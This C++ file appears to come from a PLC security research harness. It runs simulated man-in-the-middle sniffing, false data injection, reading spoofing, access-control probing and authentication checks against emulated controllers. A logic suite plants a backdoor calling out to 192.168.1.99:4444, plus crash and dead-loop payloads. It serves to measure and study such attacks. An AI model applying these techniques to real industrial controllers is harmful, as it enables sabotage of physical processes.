/* Copyright 2026 The plc-gauntlet Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 * http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License. */
#include "harness_internal.hpp"

#include "plcg/mitm.hpp"
#include "plcg/workstation.hpp"

namespace plcg::harness {

using diff::DifferentialPlan;
using wire::RequestKind;

std::string slug(const std::string& s)
{
    std::string out;
    for (char c : s)
        out += std::isalnum(static_cast<unsigned char>(c)) ? static_cast<char>(std::tolower(c)) : '_';
    return out;
}

nlohmann::json lp_list(const diff::CandidateSet& c)
{
    auto out = nlohmann::json::array();
    for (const auto& lp : c)
        out.push_back(diff::to_json(lp));
    return out;
}

nlohmann::json encodings_json(const std::vector<Encoding>& encs)
{
    auto out = nlohmann::json::array();
    for (auto e : encs)
        out.push_back(plcg::to_string(e));
    return out;
}

namespace {

/// Workstation, in-path proxy and device on one in-process network.
struct Rig {
    plcsim::Device device;
    net::DeviceServer server;
    mitm::Proxy proxy;
    net::Network network;
    ws::Session session;

    Rig(const plcsim::DeviceFixture& f, std::uint64_t seed)
        : device(f), server(device), proxy(server, "mitm"), network(seed),
          session(device.profile(), network.connect(proxy, "ws"))
    {
    }
};

/// Workstation straight to a device.
struct Bench {
    plcsim::Device device;
    net::DeviceServer server;
    net::Network network;
    ws::Session session;

    Bench(const plcsim::DeviceFixture& f, std::uint64_t seed)
        : device(f), server(device), network(seed), session(device.profile(), network.connect(server, "ws"))
    {
    }
};

wire::CaptureSet since(const wire::CaptureSet& all, std::size_t from)
{
    return wire::CaptureSet(all.begin() + static_cast<std::ptrdiff_t>(from), all.end());
}

diff::ProbeCaptures by_direction(const diff::ProbeCaptures& tagged, Direction d)
{
    diff::ProbeCaptures out;
    for (const auto& [x, cap] : tagged)
        out[x] = wire::filter_direction(cap, d);
    return out;
}

std::vector<Value> flatten(const std::vector<ws::Reading>& readings)
{
    std::vector<Value> out;
    for (const auto& r : readings)
        out.insert(out.end(), r.values.begin(), r.values.end());
    return out;
}

nlohmann::json signatures_json(const std::vector<diff::Signature>& sigs)
{
    auto out = nlohmann::json::array();
    for (const auto& s : sigs)
        out.push_back(diff::to_json(s));
    return out;
}

std::string values_text(const std::vector<Value>& v)
{
    std::string out;
    for (auto x : v)
        out += (out.empty() ? "" : ",") + std::to_string(x);
    return "[" + out + "]";
}

}  // namespace

void run_attack_matrix(Report& report, const std::vector<std::string>& profiles, std::uint64_t seed)
{
    constexpr Value kFdiOriginal = 0x0101, kFdiFake = 0xDEAD;
    constexpr Value kSpoofTruth = 0x0202, kSpoofFake = 0xBEEF;

    for (const auto& name : profiles) {
        const auto fx = plcsim::make_bench_fixture(name);
        Rig rig(fx, seed);
        auto& s = rig.session;
        const auto& var = fx.scratch_variable;
        const auto base = "table5-" + slug(name);
        LpRow row;
        row.profile = name;

        // learn, with the proxy relaying untouched
        for (auto x : kProbeValues) {
            rig.network.set_tag(x);
            ws::write_var(s, var, x);
            ws::monitor_loop(s, {var}, 1);
        }
        rig.network.set_tag(std::nullopt);
        auto learn = rig.network.take_capture();
        row.transparent = rig.proxy.stream_hash(Direction::WorkstationToPlc, false) ==
                              rig.proxy.stream_hash(Direction::WorkstationToPlc, true) &&
                          rig.proxy.stream_hash(Direction::PlcToWorkstation, false) ==
                              rig.proxy.stream_hash(Direction::PlcToWorkstation, true);

        // the analyzer sees the captures and the probe plan, nothing else
        DifferentialPlan plan;
        plan.probes = kProbeValues;
        auto tagged = diff::split_by_tag(learn);
        auto cmd = by_direction(tagged, Direction::WorkstationToPlc);
        auto resp = by_direction(tagged, Direction::PlcToWorkstation);
        row.command = diff::differential_analysis(plan, cmd);
        row.response = diff::differential_analysis(plan, resp);
        report.captures[base + "-learn"] = learn;
        report.verdicts.push_back(
            {"lp/" + name, "lp", name, !row.command.empty() && !row.response.empty(),
             "command " + std::to_string(row.command.size()) + " response " + std::to_string(row.response.size()),
             {{"type", "lp"},
              {"capture", base + "-learn"},
              {"probes", plan.probes},
              {"encodings", encodings_json(plan.encodings)},
              {"command", lp_list(row.command)},
              {"response", lp_list(row.response)}}});

        std::optional<diff::Signature> cmd_sig;
        std::vector<diff::Signature> resp_sigs;
        std::string sig_note;
        try {
            if (row.command.size() == 1)
                cmd_sig = diff::extract_signature(cmd, *row.command.begin());
            else
                sig_note = "command field is ambiguous";
            for (const auto& lp : row.response)
                resp_sigs.push_back(diff::extract_signature(resp, lp));
        } catch (const diff::DiffError& e) {
            sig_note = e.what();
        }

        std::vector<mitm::RewriteRule> rules;
        if (cmd_sig)
            rules.push_back({Direction::WorkstationToPlc, *cmd_sig, kFdiFake, kFdiOriginal});
        for (const auto& sig : resp_sigs)
            rules.push_back({Direction::PlcToWorkstation, sig, kSpoofFake, kSpoofTruth});
        rig.proxy.set_rules(rules);

        // sniffing
        {
            const auto from = rig.proxy.tee().size();
            const std::vector<Value> sent{0x1234, 0x5678};
            for (auto v : sent)
                ws::write_var(s, var, v);
            auto tee = since(rig.proxy.tee(), from);
            auto verdict = cmd_sig ? mitm::verify_sniff(
                                         mitm::sniff(wire::filter_direction(tee, Direction::WorkstationToPlc), *cmd_sig), sent)
                                   : mitm::AttackVerdict{mitm::AttackVerdict::Kind::Sniff, false, {}, sig_note};
            row.sniff = verdict.success;
            report.captures[base + "-sniff"] = tee;
            report.verdicts.push_back({"sniff/" + name, "sniff", name, verdict.success,
                                       verdict.note + " " + values_text(verdict.evidence),
                                       {{"type", "sniff"},
                                        {"capture", base + "-sniff"},
                                        {"signature", cmd_sig ? diff::to_json(*cmd_sig) : nlohmann::json()},
                                        {"expected", sent}}});
        }
        rig.network.take_capture();

        // false data injection
        {
            std::string note;
            try {
                auto r = ws::write_var(s, var, kFdiOriginal);
                note = "write status " + wire::to_string(r.status) + "; ";
            } catch (const ws::WsError& e) {
                note = std::string(e.what()) + "; ";
            }
            auto verdict = mitm::verify_fdi(rig.device, var, kFdiFake);
            row.fdi = verdict.success;
            report.snapshots[base + "-fdi"] = rig.device.snapshot();
            report.captures[base + "-fdi"] = rig.network.take_capture();
            report.verdicts.push_back(
                {"fdi/" + name, "fdi", name, verdict.success, note + verdict.note,
                 {{"type", "fdi"}, {"snapshot", base + "-fdi"}, {"var", var}, {"fake", kFdiFake}}});
        }

        // spoofing
        {
            rig.device.set_variable(var, kSpoofTruth);
            std::vector<Value> readings;
            std::string note;
            try {
                readings = flatten(ws::monitor_loop(s, {var}, 3));
            } catch (const ws::WsError& e) {
                note = std::string(e.what()) + "; ";
            }
            auto verdict = mitm::verify_spoof(readings, rig.device.variable(var).value_or(0), kSpoofFake);
            row.spoof = verdict.success;
            report.snapshots[base + "-spoof"] = rig.device.snapshot();
            report.captures[base + "-spoof"] = rig.network.take_capture();
            report.verdicts.push_back({"spoof/" + name, "spoof", name, verdict.success,
                                       note + verdict.note + ", workstation read " + values_text(readings),
                                       {{"type", "spoof"},
                                        {"capture", base + "-spoof"},
                                        {"profile", name},
                                        {"signatures", signatures_json(resp_sigs)},
                                        {"fake", kSpoofFake},
                                        {"snapshot", base + "-spoof"},
                                        {"var", var}}});
        }
        report.lp_rows.push_back(std::move(row));
    }
}

void run_ge_case_study(Report& report, std::uint64_t seed)
{
    const std::string profile = "ge_srtp_dword_like";
    const auto bench = plcsim::make_bench_fixture(profile);

    // stage one, learned on the attacker's own bench: where the constant sits in a download
    DifferentialPlan dl_plan;
    dl_plan.command = RequestKind::DownloadApp;
    dl_plan.variable = "K_DWORD";
    dl_plan.probes = kProbeValues;
    dl_plan.encodings = {{4, Endianness::Big}};
    std::optional<diff::Signature> dl_sig;
    {
        Bench b(bench, seed);
        for (auto x : dl_plan.probes) {
            b.network.set_tag(x);
            ws::download(b.session, logicvm::build_assign_app(x));
        }
        b.network.set_tag(std::nullopt);
        auto cap = b.network.take_capture();
        report.captures["ge-learn-download"] = cap;
        auto cmd = by_direction(diff::split_by_tag(cap), Direction::WorkstationToPlc);
        auto cands = diff::differential_analysis(dl_plan, cmd);
        report.verdicts.push_back({"ge/lp-download", "lp", profile, cands.size() == 1,
                                   std::to_string(cands.size()) + " candidate(s)",
                                   {{"type", "lp"},
                                    {"capture", "ge-learn-download"},
                                    {"probes", dl_plan.probes},
                                    {"encodings", encodings_json(dl_plan.encodings)},
                                    {"command", lp_list(cands)},
                                    {"response", nlohmann::json::array()}}});
        if (cands.size() == 1)
            dl_sig = diff::extract_signature(cmd, *cands.begin());
    }

    // stage two, also on the bench: where DWORD sits in a monitor response
    DifferentialPlan mon_plan;
    mon_plan.command = RequestKind::Monitor;
    mon_plan.variable = "DWORD";
    mon_plan.probes = kProbeValues;
    mon_plan.encodings = {{4, Endianness::Little}, {4, Endianness::Big}};
    std::vector<diff::Signature> mon_sigs;
    {
        auto f = bench;
        f.variables.push_back({"DWORD", 0, true, false});
        Bench b(f, seed);
        for (auto x : mon_plan.probes) {
            b.network.set_tag(x);
            ws::write_var(b.session, "DWORD", x);
            ws::monitor_loop(b.session, {"DWORD"}, 1);
        }
        b.network.set_tag(std::nullopt);
        auto cap = b.network.take_capture();
        report.captures["ge-learn-monitor"] = cap;
        auto resp = by_direction(diff::split_by_tag(cap), Direction::PlcToWorkstation);
        auto cands = diff::differential_analysis(mon_plan, resp);
        report.verdicts.push_back({"ge/lp-monitor", "lp", profile, !cands.empty(),
                                   std::to_string(cands.size()) + " candidate(s)",
                                   {{"type", "lp"},
                                    {"capture", "ge-learn-monitor"},
                                    {"probes", mon_plan.probes},
                                    {"encodings", encodings_json(mon_plan.encodings)},
                                    {"command", nlohmann::json::array()},
                                    {"response", lp_list(cands)}}});
        for (const auto& lp : cands)
            mon_sigs.push_back(diff::extract_signature(resp, lp));
    }

    // the victim: the operator downloads DWORD := 305419896 and then watches it
    auto victim = bench;
    victim.name = "ge_victim";
    Rig rig(victim, seed + 1);
    std::vector<mitm::RewriteRule> rules;
    if (dl_sig)
        rules.push_back({Direction::WorkstationToPlc, *dl_sig, 0, kCaseStudyConstant});
    for (const auto& sig : mon_sigs)
        rules.push_back({Direction::PlcToWorkstation, sig, kCaseStudyConstant, 0});
    rig.proxy.set_rules(rules);

    std::string note;
    try {
        ws::download(rig.session, logicvm::build_assign_app(kCaseStudyConstant));
    } catch (const ws::WsError& e) {
        note = std::string(e.what()) + "; ";
    }
    for (int i = 0; i < 3; ++i)
        rig.device.tick();
    auto tee = rig.proxy.tee();
    auto carried = dl_sig ? mitm::sniff(wire::filter_direction(tee, Direction::WorkstationToPlc), *dl_sig)
                          : std::vector<Value>{};
    auto fdi = mitm::verify_fdi(rig.device, "DWORD", 0);
    bool carried_ok = carried == std::vector<Value>{kCaseStudyConstant};
    report.captures["ge-stage1-tee"] = tee;
    report.snapshots["ge-stage1"] = rig.device.snapshot();
    report.verdicts.push_back({"ge/stage1-fdi", "fdi", victim.name, fdi.success && carried_ok,
                               note + "download carried " + values_text(carried) + ", " + fdi.note,
                               {{"type", "fdi"},
                                {"snapshot", "ge-stage1"},
                                {"var", "DWORD"},
                                {"fake", 0},
                                {"tee", "ge-stage1-tee"},
                                {"signature", dl_sig ? diff::to_json(*dl_sig) : nlohmann::json()},
                                {"carried", kCaseStudyConstant}}});

    rig.network.take_capture();
    std::vector<Value> readings;
    note.clear();
    try {
        readings = flatten(ws::monitor_loop(rig.session, {"DWORD"}, 3));
    } catch (const ws::WsError& e) {
        note = std::string(e.what()) + "; ";
    }
    auto spoof = mitm::verify_spoof(readings, rig.device.variable("DWORD").value_or(0), kCaseStudyConstant);
    report.captures["ge-stage2"] = rig.network.take_capture();
    report.snapshots["ge-stage2"] = rig.device.snapshot();
    report.verdicts.push_back({"ge/stage2-spoof", "spoof", victim.name, spoof.success,
                               note + "workstation read " + values_text(readings) + ", " + spoof.note,
                               {{"type", "spoof"},
                                {"capture", "ge-stage2"},
                                {"profile", profile},
                                {"signatures", signatures_json(mon_sigs)},
                                {"fake", kCaseStudyConstant},
                                {"snapshot", "ge-stage2"},
                                {"var", "DWORD"}}});
}

std::vector<RequestKind> kinds_for(plcsim::Manipulation m)
{
    switch (m) {
    case plcsim::Manipulation::ReadId: return {RequestKind::ReadId};
    case plcsim::Manipulation::UploadApp: return {RequestKind::UploadApp};
    case plcsim::Manipulation::ReadWriteVars: return {RequestKind::ReadVar, RequestKind::WriteVar};
    case plcsim::Manipulation::RunStop: return {RequestKind::Stop, RequestKind::Run};
    case plcsim::Manipulation::DownloadApp: return {RequestKind::DownloadApp};
    case plcsim::Manipulation::ModeChange: return {RequestKind::SetMode};
    }
    return {};
}

void run_probe_ac(Report& report, const std::vector<std::string>& devices, std::uint64_t seed)
{
    const std::vector<plcsim::Manipulation> columns(plcsim::kProbedManipulations.begin(),
                                                    plcsim::kProbedManipulations.end());
    for (const auto& name : devices) {
        acprobe::ProbeTarget target(plcsim::device_fixture_by_name(name), seed);
        auto matrix = acprobe::probe_capabilities(target, target.fixture().modes, columns);
        for (auto& [key, cell] : matrix.cells) {
            const auto& [mode, m] = key;
            const bool success = cell.verdict == acprobe::Observed::Allowed || cell.verdict == acprobe::Observed::Bypassed;
            const auto id = "probe/" + name + "/" + mode + "/" + plcsim::to_string(m);
            nlohmann::json check;
            if (success) {
                const auto cap = "probe-" + slug(name) + "-" + slug(mode) + "-" + slug(plcsim::to_string(m));
                report.captures[cap] = cell.traffic;
                auto kinds = nlohmann::json::array();
                for (auto k : kinds_for(m))
                    kinds.push_back(wire::to_string(k));
                check = {{"type", "probe"},
                         {"capture", cap},
                         {"profile", target.fixture().profile},
                         {"kinds", kinds},
                         {"client_prefix", "attacker"}};
            }
            std::string detail = acprobe::glyph(cell.verdict);
            if (!cell.method.empty())
                detail += " via " + cell.method;
            if (!cell.note.empty())
                detail += " (" + cell.note + ")";
            report.verdicts.push_back({id, "probe", name, success, detail, check});
            cell.traffic.clear();
        }
        report.probe_matrices.push_back(std::move(matrix));
    }
}

void run_auth_classification(Report& report, const std::vector<std::string>& devices, std::uint64_t seed)
{
    for (const auto& name : devices) {
        acprobe::ProbeTarget target(plcsim::device_fixture_by_name(name), seed);
        const auto password = target.fixture().password.value_or("");
        auto wrong = acprobe::record_auth_attempt(target, "not-the-password");
        auto correct = acprobe::record_auth_attempt(target, password);
        auto c = acprobe::classify_auth_process(wrong, correct, target);
        auto classify = target.network().take_capture();
        auto tx = acprobe::classify_password_transmission(correct, password);

        const auto base = "auth-" + slug(name);
        report.captures[base + "-wrong"] = wrong;
        report.captures[base + "-correct"] = correct;
        report.captures[base + "-classify"] = classify;
        std::string evidence;
        for (const auto& e : c.evidence)
            evidence += (evidence.empty() ? "" : "; ") + e;
        report.verdicts.push_back({"auth/" + name, "auth", name, c.verdict != acprobe::AuthVerdict::SecureProcess,
                                   acprobe::to_string(c.verdict) + ": " + evidence,
                                   {{"type", "auth"},
                                    {"verdict", acprobe::to_string(c.verdict)},
                                    {"profile", target.fixture().profile},
                                    {"wrong", base + "-wrong"},
                                    {"correct", base + "-correct"},
                                    {"classify", base + "-classify"}}});
        report.verdicts.push_back({"transmission/" + name, "transmission", name,
                                   tx != acprobe::PasswordTransmission::NotFound, acprobe::to_string(tx),
                                   {{"type", "transmission"},
                                    {"capture", base + "-correct"},
                                    {"password", password},
                                    {"result", acprobe::to_string(tx)}}});
        report.auth_rows.push_back({name, c.verdict, tx});
    }
}

namespace {

nlohmann::json cond(const std::string& snapshot, const std::string& pointer, nlohmann::json equals)
{
    return {{"snapshot", snapshot}, {"pointer", pointer}, {"equals", std::move(equals)}};
}

nlohmann::json same(const std::string& a, const std::string& b, const std::string& pointer)
{
    return {{"snapshot", a}, {"pointer", pointer}, {"same_as", b}};
}

bool holds(const Report& r, const nlohmann::json& c)
{
    const auto& snap = r.snapshots.at(c["snapshot"].get<std::string>());
    nlohmann::json::json_pointer p(c["pointer"].get<std::string>());
    if (!snap.contains(p))
        return false;
    if (c.contains("same_as"))
        return r.snapshots.at(c["same_as"].get<std::string>()).value(p, nlohmann::json()) == snap.at(p);
    return snap.at(p) == c["equals"];
}

void logic_case(Report& report, const std::string& name, const std::string& device, const std::string& outcome,
                const std::string& snapshot, nlohmann::json conditions)
{
    bool ok = true;
    for (const auto& c : conditions)
        ok = ok && holds(report, c);
    report.logic_rows.push_back(
        {name, device, outcome, report.snapshots.at(snapshot).at("run_state").get<std::string>(), ok});
    report.verdicts.push_back(
        {"logic/" + name, "logic", device, ok, outcome, {{"type", "logic"}, {"conditions", std::move(conditions)}}});
}

plcsim::DeviceFixture twin(const std::string& name)
{
    return plcsim::bench_twin(plcsim::device_fixture_by_name(name));
}

void ticks(plcsim::Device& d, int n)
{
    for (int i = 0; i < n; ++i)
        d.tick();
}

}  // namespace

void run_logic_suite(Report& report, std::uint64_t seed)
{
    const auto endpoint = logicvm::Endpoint::parse("192.168.1.99:4444");
    const auto benign = logicvm::build_benign_app();

    // one-time-cost backdoor against the unmodified base app
    {
        auto f = twin("pm573_like");
        f.supervision.whitelist_enabled = false;
        Bench base(f, seed), bd(f, seed);
        ws::download(base.session, benign);
        ws::download(bd.session, logicvm::build_backdoor_app(benign, endpoint));
        ticks(base.device, 100);
        ticks(bd.device, 100);
        report.snapshots["logic-backdoor-base"] = base.device.snapshot();
        report.snapshots["logic-backdoor"] = bd.device.snapshot();
        logic_case(report, "backdoor-whitelist-off", f.name, "BackdoorSpawned(" + endpoint.to_string() + ")",
                   "logic-backdoor",
                   {cond("logic-backdoor", "/backdoors/0/endpoint", endpoint.to_string()),
                    cond("logic-backdoor", "/init_runs", 1), same("logic-backdoor", "logic-backdoor-base", "/variables"),
                    same("logic-backdoor", "logic-backdoor-base", "/scans")});

        f.supervision.whitelist_enabled = true;
        Bench guarded(f, seed);
        ws::download(guarded.session, logicvm::build_backdoor_app(benign, endpoint));
        ticks(guarded.device, 5);
        report.snapshots["logic-backdoor-whitelist"] = guarded.device.snapshot();
        logic_case(report, "backdoor-whitelist-on", f.name, "PrivilegedTrapped", "logic-backdoor-whitelist",
                   {cond("logic-backdoor-whitelist", "/last_outcome", "PrivilegedTrapped"),
                    cond("logic-backdoor-whitelist", "/backdoors", nlohmann::json::array())});
    }

    // illegal code on a runtime that crashes on it
    {
        auto f = twin("pm573_like");
        Bench ram(f, seed);
        ws::download(ram.session, logicvm::build_illegal_app(benign));
        ticks(ram.device, 2);
        report.snapshots["logic-illegal"] = ram.device.snapshot();
        logic_case(report, "illegal-crash", f.name, "IllegalCrashed", "logic-illegal",
                   {cond("logic-illegal", "/run_state", "Dos"), cond("logic-illegal", "/last_outcome", "IllegalCrashed")});

        Bench flash(f, seed);
        ws::download(flash.session, logicvm::build_illegal_app(benign), true);
        ticks(flash.device, 2);
        flash.device.reboot();
        report.snapshots["logic-illegal-flash-boot1"] = flash.device.snapshot();
        flash.device.reboot();
        report.snapshots["logic-illegal-flash-boot2"] = flash.device.snapshot();
        logic_case(report, "illegal-flash", f.name, "NoRecoveryDos", "logic-illegal-flash-boot2",
                   {cond("logic-illegal-flash-boot1", "/run_state", "NoRecoveryDos"),
                    cond("logic-illegal-flash-boot2", "/run_state", "NoRecoveryDos")});
    }

    // guarded dead loop: dormant until v1 is written, gone after a reboot
    {
        auto f = twin("cpu317_like");
        Bench b(f, seed);
        ws::download(b.session, logicvm::build_deadloop_app(true));
        ticks(b.device, 10);
        report.snapshots["logic-deadloop-dormant"] = b.device.snapshot();
        ws::write_var(b.session, "v1", 1);
        ticks(b.device, 2);
        report.snapshots["logic-deadloop-tripped"] = b.device.snapshot();
        b.device.reboot();
        ticks(b.device, 2);
        report.snapshots["logic-deadloop-rebooted"] = b.device.snapshot();
        logic_case(report, "deadloop-guarded", f.name, "WatchdogTripped", "logic-deadloop-tripped",
                   {cond("logic-deadloop-dormant", "/last_outcome", "Completed"),
                    cond("logic-deadloop-dormant", "/run_state", "Running"),
                    cond("logic-deadloop-tripped", "/last_outcome", "WatchdogTripped"),
                    cond("logic-deadloop-rebooted", "/run_state", "Running"),
                    cond("logic-deadloop-rebooted", "/active_app", nullptr)});
    }

    // each watchdog reaction and what it looks like from outside
    const std::vector<std::pair<std::string, std::string>> reactions{
        {"cpu317_like", "HaltApp"}, {"rx3i_like", "Dos"}, {"lk207_like", "Reboot"}};
    for (const auto& [device, reaction] : reactions) {
        auto f = twin(device);
        Bench b(f, seed);
        ws::download(b.session, logicvm::build_deadloop_app(false));
        ticks(b.device, 2);
        bool answers = true;
        try {
            ws::read_id(b.session);
        } catch (const ws::WsError&) {
            answers = false;
        }
        const auto snap = "logic-watchdog-" + slug(reaction);
        auto s = b.device.snapshot();
        s["answers_read_id"] = answers;
        report.snapshots[snap] = s;
        nlohmann::json conds;
        if (reaction == "HaltApp")
            conds = {cond(snap, "/run_state", "Halted"), cond(snap, "/answers_read_id", true)};
        else if (reaction == "Dos")
            conds = {cond(snap, "/run_state", "Dos"), cond(snap, "/answers_read_id", false)};
        else
            conds = {cond(snap, "/run_state", "Running"), cond(snap, "/boot_count", 1),
                     cond(snap, "/active_app", nullptr), cond(snap, "/answers_read_id", true)};
        logic_case(report, "watchdog-" + slug(reaction), f.name, reaction, snap, conds);
    }
}

}  // namespace plcg::harness
